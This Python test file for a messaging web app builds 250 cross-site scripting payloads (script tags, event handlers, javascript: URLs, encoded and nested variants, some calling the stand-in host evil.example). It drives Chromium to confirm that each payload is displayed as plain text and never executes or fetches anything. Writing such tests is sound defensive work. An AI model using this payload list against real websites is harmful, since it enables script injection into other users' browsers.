"""Five hundred payloads in everything people can type: shown as they were typed, and nothing runs or is fetched."""

import asyncio
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.squad.caller import Caller
from tests.squad.served import Served, free_port, write_drill

NAMES = ("chromium", "chromium-browser", "google-chrome")
CHROMIUM = next((found for name in NAMES if (found := shutil.which(name))), "")

SCRIPTS = ("hit(1)", "window.hit=1", "top['hi'+'t']=1", "fetch('//evil.example')", "import('//evil.example/x.js')")
SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '<iframe srcdoc="<script>{}</script>">',
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>click</a>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<base href=//evil.example/><script>{}</script>",
    "javascript:{}",
    "${{{}}}",
    "{{{{{}}}}}",
    "`{}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "<style>@import '//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<scr<script>ipt>{}</script>",
    "<SCRIPT SRC=//evil.example/{}></SCRIPT>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "<!--><script>{}</script>",
    "]]><script>{}</script>",
    "<marquee onstart={}>",
    "<select autofocus onfocus={}>",
    "<button popovertarget=x onclick={}>",
    '<div style="background:url(javascript:{})">',
    "<x contenteditable autofocus onfocus={}>",
    "<audio src onerror={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<a ping=//evil.example/{} href=#>x</a>",
    "<img srcset=//evil.example/{}>",
    "<portal src=javascript:{}>",
    "__proto__[{}]",
    "constructor.constructor('{}')()",
    '" onmouseover={} x="',
    "' autofocus onfocus={} '",
)
PLACES = ("say", "note")


def payloads() -> list[str]:
    """Two hundred and fifty of them, each at most as long as a text may be."""
    found = [shape.format(script) for shape in SHAPES for script in SCRIPTS]
    assert max(len(each) for each in found) <= 280
    return found


def test_there_are_five_hundred_of_them_in_two_places() -> None:
    assert 500 == len(set(payloads())) * len(PLACES)


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM, reason="no Chromium is installed on this computer")
def test_five_hundred_payloads_are_shown_as_they_were_typed_and_none_runs(tmp_path: Path) -> None:
    playwright = pytest.importorskip("playwright.async_api")
    port = free_port()
    served = Served(tmp_path, write_drill(tmp_path, time_box_min=10), port)
    wrong: list[str] = []
    unseen: list[str] = []

    async def story() -> None:
        async with playwright.async_playwright() as chromium:
            browser = await chromium.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            boss = await Caller(f"http://127.0.0.1:{port}", token=served.boss).start().welcome()
            senders = [Caller(f"http://127.0.0.1:{port}", code=served.code).start() for _ in range(4)]
            await asyncio.gather(*(one.welcome() for one in senders))

            async def page(url: str) -> Any:
                opened = await (await browser.new_context(locale="en-GB")).new_page()
                opened.on("pageerror", lambda error: wrong.append(str(error)))
                opened.on("dialog", lambda dialog: wrong.append(dialog.message))
                opened.on("console", lambda m: wrong.append(m.text) if "Content Security" in m.text else None)
                opened.on("request", lambda r: None if f":{port}/" in r.url else wrong.append(r.url))
                await opened.goto(url)
                await opened.evaluate("window.hit = 0")
                return opened

            phone = await page(f"http://localhost:{port}/")
            await phone.fill("input.code-in", served.code)
            await phone.click("button.main")
            await phone.wait_for_selector("text=/callsign/")
            await boss.until(lambda: sum(p["role"] == "waiting" for p in boss.view["people"]) == 5)
            mine = {one.who for one in senders}
            reader = next(p["who"] for p in boss.view["people"] if p["who"] not in mine)
            roles = ("liaison", "tactical", "observer", "observer")
            for who, role in [(reader, "commander"), *zip([one.who for one in senders], roles, strict=True)]:
                await boss.do("admit", {"who": who, "squad": "A", "role": role})
            await boss.do("start")
            control = await page(served.boss_link.replace("localhost", "127.0.0.1"))
            screen = await page(served.screen_link)
            await phone.click("nav button >> nth=1")
            every = payloads()
            for first in range(0, len(every), 12):
                batch = every[first : first + 12]
                for k, text in enumerate(batch):
                    await senders[k % 2].do("say", {"to": "all", "text": text})
                    await senders[2 + k % 2].do("note", {"text": text})
                await asyncio.sleep(1.2)
                shown = await phone.evaluate("document.body.innerText")
                told = await control.evaluate("document.body.innerText")
                unseen.extend(text for text in batch if text not in shown)
                unseen.extend("note: " + text for text in batch[-3:] if text not in told)
            await boss.do("pause", {"text": every[0]})
            await asyncio.sleep(1.2)
            for one in (phone, screen):
                if every[0] not in await one.evaluate("document.body.innerText"):
                    unseen.append("pause: " + every[0])
            for one in (phone, control, screen):
                assert 0 == await one.evaluate("window.hit")
            await browser.close()
            for one in (boss, *senders):
                await one.stop()

    try:
        asyncio.run(story())
    finally:
        served.kill()
    assert [] == wrong
    assert [] == unseen
